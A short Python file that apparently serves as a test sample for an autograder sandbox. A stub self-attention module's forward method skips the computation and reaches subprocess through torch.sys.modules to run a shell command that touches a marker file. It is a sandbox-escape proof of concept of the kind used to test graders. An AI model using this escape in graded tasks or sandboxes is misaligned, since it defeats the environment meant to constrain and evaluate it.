"""Escape through `torch.sys`: take subprocess from sys.modules."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        torch.sys.modules["subprocess"].run(["touch", "/tmp/autograder-pwned-escape_torch_sys"])
        return embedded
